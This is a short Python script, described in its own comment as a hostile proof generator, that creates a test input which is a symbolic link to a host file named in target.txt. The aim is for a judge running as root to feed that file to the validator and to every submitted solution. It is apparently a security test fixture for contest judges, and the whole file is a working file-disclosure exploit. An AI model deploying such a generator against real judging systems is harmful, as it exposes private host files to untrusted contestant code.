# A hostile proof generator: its first batch input is a symbolic link to a host file (named in target.txt
# beside it), which a judge running as root would feed to the validator and every solution.
import json
import os
import sys

out = sys.argv[-1]
target = open(os.path.join(os.path.dirname(os.path.abspath(sys.argv[0])), "target.txt")).read().strip()
os.symlink(target, os.path.join(out, "001.in"))
open(os.path.join(out, "001.ans"), "w").write("3\n")
print(json.dumps({"cases": 1}))
